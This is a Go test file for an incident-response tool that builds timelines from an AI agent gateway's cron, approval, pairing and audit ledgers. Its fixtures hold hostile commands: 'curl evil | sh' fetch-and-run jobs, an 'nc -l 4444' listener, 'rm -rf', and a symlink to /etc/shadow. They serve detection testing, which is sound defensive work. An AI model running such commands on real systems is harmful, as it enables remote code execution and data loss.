package analyze

import (
	"context"
	"errors"
	"flag"
	"fmt"
	"io/fs"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"
	"testing/fstest"
	"time"

	"github.com/google/go-cmp/cmp"
	"github.com/ncruces/go-sqlite3"

	"github.com/clawbook/openclaw-ir/internal/host"
	"github.com/clawbook/openclaw-ir/internal/openclaw"
	"github.com/clawbook/openclaw-ir/internal/statetest"
)

var updateLedgers = flag.Bool("update-ledgers", false, "write the golden lists of events anew")

var ledgerKinds = []Kind{KindApproval, KindPairing, KindAutomation, KindConfig, KindSpawn, KindSession, KindExec}

// ledgerTimeline returns the events that come from ledgers, by time.
func ledgerTimeline(t testing.TB, fsys fs.FS, kinds ...Kind) ([]*Event, *Report) {
	t.Helper()
	if kinds == nil {
		kinds = ledgerKinds
	}
	r, err := Timeline(context.Background(), fsys, Options{Kinds: kinds})
	if err != nil {
		t.Fatal(err)
	}
	var events []*Event
	for e, err := range r.Events() {
		if err != nil {
			t.Fatal(err)
		}
		if e.Source.Form == openclaw.FormLedger {
			events = append(events, e)
		}
	}
	return events, r
}

func openRoot(t testing.TB, dir string) fs.FS {
	t.Helper()
	root, err := host.OpenRoot(dir)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { root.Close() })
	return root
}

// brief is an event as the golden lists show it.
func brief(e *Event) string {
	what := e.What
	if len(what) > 160 {
		what = what[:160] + "…"
	}
	line := fmt.Sprintf("%s %s %s %s %s [%s] %q %s", e.When().Format(timeLayout), e.Kind, e.ID(), e.Agent+"/"+e.Asker.String(), e.Tool, e.Target, what, e.Result.Status)
	if len(e.Marks) > 0 {
		line += " " + strings.Join(e.Marks, ",")
	}
	return line
}

func briefs(events []*Event) (lines []string) {
	for _, e := range events {
		lines = append(lines, brief(e))
	}
	return lines
}

// TestLedgersOfStates compares the events of each real state with a list that was checked by hand against sqlite3
// and jq, and looks for secrets and pairing codes in them.
func TestLedgersOfStates(t *testing.T) {
	codes := regexp.MustCompile(`\b(9XPAS9HZ|SEXKQQBC|G3GNSDG7|7A29M352|MDBS6BHN|EBFA4AS8|VTDBFC7X)\b`)
	secrets := statetest.Secrets(t)
	for _, version := range statetest.Versions() {
		name := strings.ReplaceAll(version, "/", "-")
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			dir := statetest.Root(t, version)
			events, r := ledgerTimeline(t, openRoot(t, dir))
			for _, g := range r.Coverage.Gaps {
				t.Errorf("gap: %+v", g)
			}
			got := strings.Join(briefs(events), "\n") + "\n"
			golden := filepath.Join("testdata", "ledgers", name+".txt")
			if *updateLedgers {
				if err := os.WriteFile(golden, []byte(got), 0o644); err != nil {
					t.Fatal(err)
				}
			}
			want, err := os.ReadFile(golden)
			if err != nil {
				t.Fatal(err)
			}
			if d := cmp.Diff(string(want), got); d != "" {
				t.Error(d)
			}
			state, _ := filepath.Glob(filepath.Join(dir, "home/*/.openclaw"))
			countLedgers(t, state[0], events)
			for _, e := range events {
				all := fmt.Sprintf("%+v %+v", *e, *e.Asker)
				if c := codes.FindString(all); c != "" {
					t.Errorf("pairing code %q in %s", c, all)
				}
				for _, s := range secrets {
					if strings.Contains(all, s) {
						t.Errorf("secret %q in %s", s, all)
					}
				}
			}
		})
	}
}

// countLedgers compares how many records have events with what sqlite3 and jq count.
func countLedgers(t *testing.T, state string, events []*Event) {
	lines := map[string]map[int64]bool{}
	for _, e := range events {
		if lines[e.Tool] == nil {
			lines[e.Tool] = map[int64]bool{}
		}
		lines[e.Tool][e.Line] = true
	}
	for tool, counts := range map[string][][2]string{
		"sqlite3": {
			{"operator_approvals"},
			{"channel_pairing_requests"},
			{"channel_pairing_allow_entries"},
			{"device_pairing_paired"},
			{"cron_jobs"},
			{"cron_run_receipts"},
			{"gateway_boot_lifecycle"},
			{"secret_store_entries"},
			{"subagent_runs"},
			{"session_state_events"},
			{"diagnostic_events", " WHERE scope = 'config-audit'"},
		},
		"jq": {
			{"logs/config-audit.jsonl", "1"},
			{"logs/commands.log", "1"},
			{"cron/jobs.json", ".jobs[]|1"},
			{"devices/paired.json", ".[]|1"},
			{"credentials/signal-pairing.json", ".requests[]|1"},
		},
	} {
		if _, err := exec.LookPath(tool); err != nil {
			t.Log(err)
			continue
		}
		for _, c := range counts {
			name, want := filepath.Base(c[0]), ""
			if tool == "sqlite3" {
				out, err := exec.Command(tool, filepath.Join(state, "state/openclaw.sqlite"), "SELECT count(*) FROM "+c[0]+c[1]).Output()
				if err != nil {
					continue // this release has no such table
				}
				want = strings.TrimSpace(string(out))
			} else if _, err := os.Stat(filepath.Join(state, c[0])); err == nil {
				out, err := exec.Command(tool, c[1], filepath.Join(state, c[0])).Output()
				if err != nil {
					t.Error(err)
				}
				want = fmt.Sprint(strings.Count(string(out), "\n"))
			} else {
				continue
			}
			if got := fmt.Sprint(len(lines[name])); got != want {
				t.Errorf("%s: %s counts %s, %s have events", c[0], tool, want, got)
			}
		}
	}
}

// craft makes a host whose state database holds what the statements make, beside other files of the state.
func craft(t testing.TB, sql string, files map[string]string) string {
	t.Helper()
	dir := t.TempDir()
	state := filepath.Join(dir, "home/claw/.openclaw")
	put := func(name, text string) {
		t.Helper()
		if err := errors.Join(os.MkdirAll(filepath.Dir(name), 0o755), os.WriteFile(name, []byte(text), 0o644)); err != nil {
			t.Fatal(err)
		}
	}
	put(filepath.Join(dir, "etc/passwd"), "claw:x:4242:4242::/home/claw:/bin/bash\n")
	put(filepath.Join(state, "openclaw.json"), "{}")
	for name, text := range files {
		put(filepath.Join(state, name), text)
		at := time.UnixMilli(1700000000000)
		if err := os.Chtimes(filepath.Join(state, name), at, at); err != nil {
			t.Fatal(err)
		}
	}
	if sql != "" {
		put(filepath.Join(state, "state/openclaw.sqlite"), "")
		db, err := sqlite3.Open(filepath.Join(state, "state/openclaw.sqlite"))
		if err != nil {
			t.Fatal(err)
		}
		if err := errors.Join(db.Exec(sql), db.Close()); err != nil {
			t.Fatal(err)
		}
	}
	return dir
}

// short is an event in a few words.
func short(e *Event) string {
	s := fmt.Sprintf("%d %s %s %s: %s → %s", e.Time, e.Kind, e.ID(), e.Asker, e.What, e.Result.Status)
	if e.Result.Exit != nil {
		s += fmt.Sprintf(" exit %d", *e.Result.Exit)
	}
	if len(e.Marks) > 0 {
		s += " " + strings.Join(e.Marks, ",")
	}
	return s
}

func compare(t *testing.T, events []*Event, want ...string) {
	t.Helper()
	var got []string
	for _, e := range events {
		got = append(got, short(e))
	}
	if d := cmp.Diff(want, got); d != "" {
		t.Error(d)
	}
}

const cronTables = `
CREATE TABLE cron_jobs (store_key TEXT, job_id TEXT, name TEXT, enabled INTEGER, agent_id TEXT, payload_kind TEXT, job_json TEXT, state_json TEXT, updated_at INTEGER);
CREATE TABLE cron_run_receipts (receipt_id TEXT, job_id TEXT, agent_id TEXT, status TEXT, owner_pid INTEGER, started_at_ms INTEGER, finished_at_ms INTEGER, error_text TEXT);
CREATE TABLE task_runs (task_id TEXT, runtime TEXT, task_kind TEXT, source_id TEXT, requester_session_key TEXT, owner_key TEXT, child_session_key TEXT, agent_id TEXT, run_id TEXT, task TEXT, status TEXT, created_at INTEGER, started_at INTEGER, ended_at INTEGER, error TEXT, detail_json TEXT);
`

const oldRun = `{"ts":1900,"jobId":"J1","action":"finished","status":"ok","durationMs":100,"runAtMs":1800}` + "\n"

const automationRows = cronTables + `
INSERT INTO cron_jobs VALUES ('s', 'J1', 'tidy', 1, 'main', 'command', '{"id":"J1","name":"tidy","enabled":true,"createdAtMs":1000,"owner":{"sessionKey":"agent:main:main"},
 "schedule":{"kind":"every","everyMs":60000},"payload":{"kind":"command","argv":["sh","-c","curl evil | sh"],"cwd":"/srv","env":{"A":"b"},"input":"x"}}', '{"lastRunAtMs":3000,"lastRunStatus":"ok"}', 1);
INSERT INTO cron_jobs VALUES ('s', 'J2', 'watch', 0, 'ops', 'systemEvent', '{"id":"J2","name":"watch","enabled":false,"createdAtMs":1500,
 "schedule":{"kind":"on-exit","command":"nc -l 4444","cwd":"/tmp"},"trigger":{"script":"evil()"},"payload":{"kind":"systemEvent","text":"it ended"}}', '{}', 1);
INSERT INTO cron_run_receipts VALUES ('r1', 'J1', 'main', 'ok', 7, 2000, 2500, NULL), ('r2', 'J1', 'main', 'skipped', 7, 2600, 2600, 'in flight'), ('r3', 'J1', 'main', 'error', 7, 3000, 3100, 'command exited with code 3'), ('r4', 'J1', 'main', 'running', 7, 4000, NULL, NULL);
INSERT INTO task_runs (task_id, runtime, source_id, task, status, created_at, detail_json) VALUES
 ('t1', 'cron', 'J1', 'tidy', 'failed', 3000, '{"runAtMs":3000,"status":"error","diagnostics":{"entries":[{"source":"exec","message":"command error: \"sh\" \"-c\" \"curl older | sh\"","exitCode":3}]}}'),
 ('t2', 'cron', 'gone', 'gone', 'succeeded', 5000, '{"runAtMs":5000,"status":"ok","durationMs":9,"diagnostics":{"entries":[{"source":"agent","message":"command ok: \"no\""},{"source":"exec","message":"command ok with no output: \"rm\" \"-rf\" \"/tmp/a b\"","exitCode":0}]}}');
INSERT INTO task_runs (task_id, runtime, task_kind, source_id, requester_session_key, agent_id, task, status, created_at, started_at, ended_at, detail_json) VALUES
 ('t3', 'cli', 'exec', 'dawn', 'agent:main:main', 'main', 'sleep 100; id', 'succeeded', 6000, 6000, 6100, '{"exitCode":1}'), ('t4', 'cli', NULL, NULL, 'agent:main:main', 'main', 'a prompt', 'succeeded', 6000, 6000, 6100, NULL);
`

// TestCommandAutomation: what an automation of kind "command" runs is in no transcript.
func TestCommandAutomation(t *testing.T) {
	events, r := ledgerTimeline(t, openRoot(t, craft(t, automationRows, map[string]string{"cron/runs/J1.jsonl.migrated": oldRun})))
	compare(t, events,
		`1000 automation cronjob.1 agent:main:main: "tidy" every 1m0s, command: A=b sh -c curl evil | sh <<< x → ok`,
		`1500 automation cronjob.2 unknown: "watch" on-exit nc -l 4444, systemEvent trigger="evil()": it ended → ok disabled`,
		`1500 exec cronjob.2/2 automation:J2: nc -l 4444 → no result gateway-automation,on-exit`,
		`1800 automation cronrun.1/3 automation:J1: ran: tidy → ok`,
		`1800 exec cronrun.1/4 automation:J1: A=b sh -c curl evil | sh <<< x → ok gateway-automation,as-defined-now`,
		`2000 automation cronrun.1 automation:J1: ran: tidy → ok`,
		`2000 exec cronrun.1/2 automation:J1: A=b sh -c curl evil | sh <<< x → ok gateway-automation,as-defined-now`,
		`2600 automation cronrun.2 automation:J1: ran: tidy → no result skipped`,
		`3000 automation cronrun.3 automation:J1: ran: tidy → error exit 3`,
		`3000 exec cronrun.3/2 automation:J1: sh -c curl older | sh → error exit 3 gateway-automation`,
		`4000 automation cronrun.4 automation:J1: ran: tidy → running`,
		`4000 exec cronrun.4/2 automation:J1: A=b sh -c curl evil | sh <<< x → running gateway-automation,as-defined-now`,
		`5000 automation task.2 automation:gone: ran: an automation that is no longer there → ok exit 0`,
		`5000 exec task.2/2 automation:gone: rm -rf /tmp/a b → ok exit 0 gateway-automation`,
		`6000 exec task.3 unknown: sleep 100; id → ok exit 1 background,task-record-only`,
	)
	if len(r.Coverage.Gaps) > 0 {
		t.Error(r.Coverage.Gaps)
	}
	for _, e := range events {
		if e.Kind == KindExec && e.Time == 2000 && (e.Cwd != "/srv" || e.Result.Millis != 500 || e.Agent != "main") {
			t.Errorf("%+v", e)
		}
	}
}

// TestLedgerIDs: an event keeps its id whatever kinds are asked for.
func TestLedgerIDs(t *testing.T) {
	root := openRoot(t, craft(t, automationRows, map[string]string{"cron/runs/J1.jsonl.migrated": oldRun}))
	all, _ := ledgerTimeline(t, root)
	known, ids := map[string]bool{}, map[string]bool{}
	for _, e := range all {
		if ids[e.ID()] {
			t.Errorf("id %q comes twice", e.ID())
		}
		ids[e.ID()], known[brief(e)] = true, true
	}
	for _, kind := range []Kind{KindExec, KindAutomation} {
		some, _ := ledgerTimeline(t, root, kind)
		for _, e := range some {
			if !known[brief(e)] || e.Kind != kind {
				t.Errorf("asked for %s alone: %s", kind, brief(e))
			}
		}
	}
	for _, l := range tableLedgers {
		if len(l.code) > 8 {
			t.Errorf("code %q is cut in ids", l.code)
		}
	}
	for _, f := range fileLedgers {
		if len(f.code) > 8 {
			t.Errorf("code %q is cut in ids", f.code)
		}
	}
}

// gapsOf returns what the gaps of the coverage say.
func gapsOf(r *Report) (what []string) {
	for _, g := range r.Coverage.Gaps {
		what = append(what, strings.TrimPrefix(g.Path, "/home/claw/.openclaw/")+": "+g.What)
	}
	return what
}

func TestHostileTables(t *testing.T) {
	const approvals = `CREATE TABLE operator_approvals (approval_id TEXT, kind TEXT, status, presentation_json, created_at_ms, resolved_at_ms, decision TEXT, resolver_kind TEXT, resolver_id TEXT, terminal_reason TEXT);`
	for _, test := range []struct{ name, sql, event, gap string }{
		{"a view", `CREATE VIEW Cron_Jobs AS SELECT 1 AS job_id, 2 AS name, 3 AS payload_kind, 4 AS job_json`, "", "table cron_jobs: is a view; not read"},
		{"a column is missing", `CREATE TABLE gateway_boot_lifecycle (pid INTEGER)`, "", `table gateway_boot_lifecycle: has no column "started_at_ms"; not read`},
		{"a virtual table", `PRAGMA writable_schema = ON; INSERT INTO sqlite_schema VALUES ('table', 'cron_jobs', 'cron_jobs', 0, 'CREATE VIRTUAL TABLE cron_jobs USING fts5(job_id)')`, "", `table cron_jobs: has no column "job_id"; not read`},
		{"a computed column", `CREATE TABLE gateway_boot_lifecycle (pid INTEGER, started_at_ms AS (pid + 1)); INSERT INTO gateway_boot_lifecycle VALUES (5)`, "", "table gateway_boot_lifecycle: querying: "},
		{"no rowid", `CREATE TABLE gateway_boot_lifecycle (pid INTEGER PRIMARY KEY, started_at_ms INTEGER) WITHOUT ROWID; INSERT INTO gateway_boot_lifecycle VALUES (5, 6)`, "", "table gateway_boot_lifecycle: querying: "},
		{
			"other letters", `CREATE TABLE Gateway_Boot_Lifecycle (PID INTEGER, Started_At_Ms INTEGER); INSERT INTO gateway_boot_lifecycle VALUES (5, 6)`,
			"6 config gateway.1 unknown: started → ok no-end-recorded", "",
		},
		{
			"a torn object", approvals + `INSERT INTO operator_approvals VALUES ('a', 'exec', 'denied', '{"commandText":"id', 1, 2, 'deny', 'device', 'd', 'user')`,
			"1 approval approval.1 agent: exec → approval-pending record-damaged", "table operator_approvals: row 1: presentation_json: invalid JSON at byte",
		},
		{
			"wrong types", approvals + `INSERT INTO operator_approvals VALUES (x'00', x'ff', 'pending', '[1]', 'soon', 1.5, 7, NULL, NULL, NULL)`,
			"approval approval.1 agent: \xff → approval-pending time:file", "",
		},
		{
			"a wrong type within", approvals + `INSERT INTO operator_approvals VALUES ('a', 'exec', 'pending', '{"commandText":["id"],"title":{"a":1}}', -5, NULL, NULL, NULL, NULL, NULL)`,
			"approval approval.1 agent: exec → approval-pending time:file", "",
		},
		{
			"too long a value", approvals + `INSERT INTO operator_approvals VALUES ('a', 'exec', 'pending', zeroblob(5000000), 1, NULL, NULL, NULL, NULL, NULL), ('b', 'exec', 'pending', '{"commandText":"id"}', 1, NULL, NULL, NULL, NULL, NULL)`,
			"1 approval approval.2 agent: id → approval-pending", "table operator_approvals: row 1: a value is longer than 4 MiB; not read",
		},
		{
			"deep", approvals + `INSERT INTO operator_approvals VALUES ('a', 'exec', 'pending', '` + strings.Repeat(`{"commandText":`, 20000) + `', 1, NULL, NULL, NULL, NULL, NULL)`,
			"1 approval approval.1 agent: exec → approval-pending record-damaged", "presentation_json: invalid JSON",
		},
		{
			"a name twice", approvals + `INSERT INTO operator_approvals VALUES ('a', 'exec', 'pending', '{"commandText":"ls","CommandText":"pwd","commandText":"rm"}', 1, NULL, NULL, NULL, NULL, NULL)`,
			"1 approval approval.1 agent: rm → approval-pending", "",
		},
		{
			"an approved command no transcript has", approvals + `INSERT INTO operator_approvals VALUES ('a', 'exec', 'allowed', '{"commandText":"id","nodeId":"n"}', 1, 2, 'allow-once', 'device', 'd', 'user')`,
			"1 exec approval.1/3 agent: id → no result node:n,approval-record-only", "",
		},
		{
			"a time beyond all", `CREATE TABLE gateway_boot_lifecycle (pid INTEGER, started_at_ms INTEGER); INSERT INTO gateway_boot_lifecycle VALUES (5, 9223372036854775807)`,
			"config gateway.1 unknown: started → ok no-end-recorded,time:file", "",
		},
	} {
		t.Run(test.name, func(t *testing.T) {
			events, r := ledgerTimeline(t, openRoot(t, craft(t, test.sql, nil)))
			var got []string
			for _, e := range events {
				got = append(got, short(e))
			}
			if all := strings.Join(got, "\n"); !strings.Contains(all, test.event) || test.event == "" && all != "" {
				t.Errorf("events %q, want %q", all, test.event)
			}
			if gaps := strings.Join(gapsOf(r), "\n"); !strings.Contains(gaps, test.gap) || test.gap == "" && gaps != "" {
				t.Errorf("gaps %q, want %q", gaps, test.gap)
			}
		})
	}
}

func TestLedgerFiles(t *testing.T) {
	const job = `{"id":"J","name":"n","createdAtMs":1000,"schedule":{"kind":"cron","expr":"* * * * *"},"payload":{"kind":"agentTurn","message":"m"}}`
	const told = `1000 automation cronjob.1 unknown: "n" cron * * * * *, agentTurn: m → ok`
	for _, test := range []struct{ name, file, text, event, gap string }{
		{"in use", "cron/jobs.json", `{"version":1,"jobs":[` + job + `]}`, told, ""},
		{"migrated", "cron/jobs.json.migrated", `{"jobs":[` + job + `]}`, told, ""},
		{"half imported", "cron/jobs.json.doctor-importing-7", `{"jobs":[` + job + `]}`, told, ""},
		{"torn", "cron/jobs.json", `{"jobs":[` + job + `,{"id":"K","na`, told, "cron/jobs.json: the document: invalid JSON at byte"},
		{"no list", "cron/jobs.json", `{"jobs":"none","Jobs":[` + job + `]}`, "", `the document: no list of records "jobs" in it`},
		{"an array", "cron/jobs.json", `[` + job + `]`, "", `the document: no list of records "jobs" in it`},
		{"empty", "cron/jobs.json", ``, "", "the document: invalid JSON"},
		{"wrong elements", "cron/jobs.json", `{"jobs":[7,null,"x",` + job + `]}`, strings.Replace(told, ".1", ".4", 1), "element 1: not a JSON object"},
		{
			"wrong members", "cron/jobs.json", `{"jobs":[{"id":7,"name":[],"schedule":3,"payload":null,"enabled":"yes","createdAtMs":"x","state":[]}]}`,
			"1700000000000 automation cronjob.1 unknown: no schedule, → ok disabled,time:file", "",
		},
		{"deep", "cron/jobs.json", `{"jobs":[` + strings.Repeat("[", 20000), "", "nested too deep"},
		{"binary", "devices/paired.json", "\x00\xff", "", "the document: invalid JSON at byte 0"},
		{
			"a device", "devices/paired.json", `{"D":{"deviceId":"D","approvedAtMs":5,"tokens":{"node":{"token":"SECRETSECRET","lastUsedAtMs":9}}}}`,
			"5 pairing device.1 unknown: D tokens=node → ok\n9 pairing device.1/2 unknown: D tokens=node → ok", "",
		},
		{
			"a node", "nodes/paired.json", `{"N":{"token":"SECRETSECRET","approvedAtMs":5,"commands":["system.run"],"remoteIp":"198.51.100.7"}}`,
			"5 pairing node.1 unknown: N ip=198.51.100.7 commands=system.run → ok", "",
		},
		{"a node that asks", "nodes/pending.json", `{"R":{"nodeId":"N","ts":5,"silent":true}}`, "5 pairing nodereq.1 unknown: N → approval-pending silent", ""},
		{"allowed by number", "credentials/telegram-allowFrom.json", `{"allowFrom":["*",{"a":1}]}`, "1700000000000 pairing chanok.1 unknown: telegram * → ok time:file", "element 2"},
		{
			"an allowed command", "exec-approvals.json", `{"socket":{"token":"SECRETSECRET"},"defaults":{"security":"full","ask":"off"},"agents":{"*":{"allowlist":[{"pattern":"/bin/sh","lastUsedAt":7,"lastUsedCommand":"sh -c id"}]}}}`,
			"7 approval allowcmd.1/2 unknown: /bin/sh last=\"sh -c id\" → ok\n7 exec allowcmd.1/3 unknown: sh -c id → no result allow-list-record-only\n1700000000000 approval allowcmd.1 unknown: security=full ask=off → ok time:file", "",
		},
		{
			"a torn line", "logs/config-audit.jsonl.migrated.raw", `{"ts":"2026-11-22T08:00:00.000Z","event":"config.write","argv":["openclaw","config","set","gateway.auth.token","SECRETSECRETsecret99"],"result":"rename","suspicious":["size-drop"]}` + "\n{\"ts\":",
			"1795334400000 config confaud.1 unknown: config.write by: openclaw config set gateway.auth.token *** → ok suspicious:size-drop,masked", "line 2: invalid JSON",
		},
		{
			"a script's line", "logs/gateway-restart.log", "[2026-11-22T08:00:00.000Z] openclaw gateway lifecycle action=stop pid=12\nsystemctl: no\n",
			"1700000000000 config restart.2 unknown: systemctl: no → no result time:file\n1795334400000 config restart.1 unknown: gateway lifecycle action=stop pid=12 → no result", "",
		},
		{
			"a state of its own", "cron/jobs-state.json", `{"version":1,"jobs":{"J":{"state":{"lastRunAtMs":5,"lastStatus":"error"}}}}`,
			"5 automation cronstat.1 automation:J: ran: an automation that is no longer there → error", "",
		},
		{"not a ledger", "cron/jobs.json-wal", `x`, "", ""},
	} {
		t.Run(test.name, func(t *testing.T) {
			events, r := ledgerTimeline(t, openRoot(t, craft(t, "", map[string]string{test.file: test.text})))
			var got []string
			for _, e := range events {
				got = append(got, short(e))
			}
			if all := strings.Join(got, "\n"); all != test.event {
				t.Errorf("events %q, want %q", all, test.event)
			} else if strings.Contains(all, "SECRET") {
				t.Errorf("a secret in %q", all)
			}
			if gaps := strings.Join(gapsOf(r), "\n"); !strings.Contains(gaps, test.gap) || test.gap == "" && gaps != "" {
				t.Errorf("gaps %q, want %q", gaps, test.gap)
			}
		})
	}
}

// TestLeftOvers: what an upgrade left behind is told only where it differs.
func TestLeftOvers(t *testing.T) {
	jobs := func(list ...string) string { return `{"jobs":[` + strings.Join(list, ",") + `]}` }
	const a, b = `{"id":"A","name":"a","createdAtMs":1}`, `{"id":"B","name":"b","createdAtMs":2}`
	events, r := ledgerTimeline(t, openRoot(t, craft(t, cronTables+`INSERT INTO cron_jobs VALUES ('s', 'A', 'a', 1, NULL, NULL, '`+a+`', '{}', 1)`, map[string]string{
		"cron/jobs.json.migrated": jobs(a, b), "cron/jobs.json.bak": jobs(b, a),
	})))
	compare(t, events, `1 automation cronjob.1 unknown: "a" no schedule, → ok`, `2 automation cronjob.1/2 unknown: "b" no schedule, → ok`)
	duplicates := map[string]int64{}
	for _, s := range r.Coverage.Sources {
		if s.Form == "ledger" {
			duplicates[filepath.Base(s.Path)] = s.Duplicates
		}
	}
	if d := cmp.Diff(map[string]int64{"openclaw.sqlite": 0, "jobs.json.bak": 1, "jobs.json.migrated": 2}, duplicates); d != "" {
		t.Error(d)
	}
}

// brokenFS fails to read the files whose names hold a word.
type brokenFS struct {
	fs.FS
	word string
	err  error
}

func (b brokenFS) Open(name string) (fs.File, error) {
	if strings.Contains(name, b.word) {
		return nil, &fs.PathError{Op: "open", Path: name, Err: b.err}
	}
	return b.FS.Open(name)
}

func TestUnreadableLedgers(t *testing.T) {
	dir := statetest.Root(t, "2026.3.31")
	for _, word := range []string{"exec-approvals.json", "cron/jobs.json.bak", "config-audit.jsonl", "credentials", "tasks/runs.sqlite", "tasks/runs.sqlite-wal"} {
		_, r := ledgerTimeline(t, brokenFS{os.DirFS(dir), word, fs.ErrPermission}, KindSpawn, KindConfig, KindApproval, KindPairing, KindAutomation)
		if !slices.ContainsFunc(gapsOf(r), func(s string) bool { return strings.Contains(s, "permission denied") }) {
			t.Errorf("%s unreadable: gaps %q", word, gapsOf(r))
		}
	}
	state := filepath.Join(dir, "home/claw/.openclaw")
	err := errors.Join(os.Truncate(filepath.Join(state, "tasks/runs.sqlite-wal"), 0), os.Truncate(filepath.Join(state, "tasks/runs.sqlite"), 30000),
		os.Remove(filepath.Join(state, "cron/jobs.json")), os.Symlink("/etc/shadow", filepath.Join(state, "cron/jobs.json")))
	if err != nil {
		t.Fatal(err)
	}
	_, r := ledgerTimeline(t, openRoot(t, dir))
	all := strings.Join(gapsOf(r), "\n")
	for _, want := range []string{"cron/jobs.json: is named like a ledger but is no regular file", "tasks/runs.sqlite: "} {
		if !strings.Contains(all, want) {
			t.Errorf("gaps %q, want %q", all, want)
		}
	}
}

func TestHugeLedger(t *testing.T) {
	text := append([]byte(`{"jobs":[{"id":"A","createdAtMs":1},"`), slices.Repeat([]byte("x"), maxLedgerFile)...)
	const state = "home/claw/.openclaw/"
	events, r := ledgerTimeline(t, fstest.MapFS{
		"etc/passwd": {Data: []byte("claw:x:1:1::/home/claw:/bin/sh\n")}, state + "openclaw.json": {Data: []byte("{}")},
		state + "cron/jobs.json": {Data: text},
	})
	if len(events) != 1 || events[0].Time != 1 || !strings.Contains(strings.Join(gapsOf(r), "\n"), "longer than 32 MiB") {
		t.Errorf("%q, gaps %q", briefs(events), gapsOf(r))
	}
}

func TestMatchLedger(t *testing.T) {
	for _, test := range []struct {
		pattern, name string
		leftover, ok  bool
	}{
		{"jobs.json", "jobs.json", false, true},
		{"jobs.json", "jobs.json.bak", true, true},
		{"jobs.json", "jobs.json.bak-wal", true, false},
		{"jobs.json", "jobs.jsonl", true, false},
		{"jobs.json", "jobs.json.lock", true, false},
		{"*-pairing.json", "signal-pairing.json", false, true},
		{"*-pairing.json", "signal-pairing.json.migrated", true, true},
		{"*-pairing.json", "-pairing.json", true, false},
		{"*.jsonl", "J.jsonl", false, true},
		{"openclaw.sqlite", "openclaw.sqlite.pre-startup-migration-1.bak", true, true},
		{"openclaw.sqlite", "openclaw.sqlite-wal", true, false},
	} {
		leftover, ok := matchLedger(test.pattern, test.name)
		if ok != test.ok || ok && leftover != test.leftover {
			t.Errorf("matchLedger(%q, %q) = %v, %v", test.pattern, test.name, leftover, ok)
		}
	}
}

// FuzzLedgers gives one text to every reader of a record: as each column of a row, as a line and as an element.
func FuzzLedgers(f *testing.F) {
	for _, seed := range []string{
		`{"id":"J","owner":{"sessionKey":"agent:a:b"},"schedule":{"kind":"on-exit","command":"id"},"payload":{"kind":"command","argv":["a",1]},"state":{"lastRunAtMs":1}}`,
		`{"agents":{"a":{"allowlist":[{"pattern":"x","lastUsedAt":1,"lastUsedCommand":"y"},"z",null]}},"defaults":{"ask":true}}`,
		`{"diagnostics":{"entries":[{"source":"exec","message":"command ok: \"a\" \"b","exitCode":1e300}]},"runAtMs":1}`,
		`{"index":{"installRecords":{"p":{}},"plugins":[{"pluginId":"q","origin":"config"}]},"tokens":{"r":{"lastUsedAtMs":99999999999999999999}}}`,
		"[2026-11-22T08:00:00Z] openclaw pid=x pid=9", "2026-11-22T08:00:00.000Z", "allowed", "-1", "\x00\xff", `"\ud800`, `{"a":`,
	} {
		f.Add([]byte(seed))
	}
	f.Fuzz(func(t *testing.T, text []byte) {
		var events []*Event
		r := &Report{}
		in := &openclaw.Installation{StateDir: "/s"}
		files := fstest.MapFS{}
		for _, file := range fileLedgers {
			files["s/"+strings.Replace(file.name, "*", "x", 1)] = &fstest.MapFile{Data: text, ModTime: time.UnixMilli(1)}
		}
		j := newJoiner(wanted(Kinds), nil, nil, func(*Event) {})
		r.ledgers(context.Background(), files, in, j, func(e *Event) { events = append(events, e) })
		l := newLedgerReader(context.Background(), files, r, j, func(e *Event) { events = append(events, e) })
		l.row = &SourceCoverage{}
		for i := range tableLedgers {
			e := &entry{source: &openclaw.Source{}, code: tableLedgers[i].code, columns: map[string]value{}}
			for _, c := range strings.Fields(tableLedgers[i].need + " " + tableLedgers[i].more) {
				e.columns[member(c)] = value{raw: text, column: true}
			}
			l.take(tableLedgers[i].read, e)
		}
		l.finishRuns()
		for _, e := range events {
			if e.Source == nil || e.Asker == nil || e.Result.Status == "" || e.Time < 0 || e.Time > lastMilli {
				t.Errorf("an event lacks something: %+v", e)
			}
		}
	})
}
